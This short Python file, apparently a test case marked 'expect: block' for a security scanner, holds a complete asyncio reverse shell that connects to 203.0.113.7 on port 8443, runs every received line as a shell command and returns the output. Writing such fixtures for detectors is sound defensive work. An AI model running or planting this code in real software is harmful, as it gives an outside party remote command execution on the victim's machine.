# expect: block
import asyncio


async def main():
    reader, writer = await asyncio.open_connection("203.0.113.7", 8443)
    while True:
        line = await reader.readline()
        if not line:
            break
        proc = await asyncio.create_subprocess_shell(
            line.decode(), stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.STDOUT
        )
        out, _ = await proc.communicate()
        writer.write(out)
        await writer.drain()


asyncio.run(main())
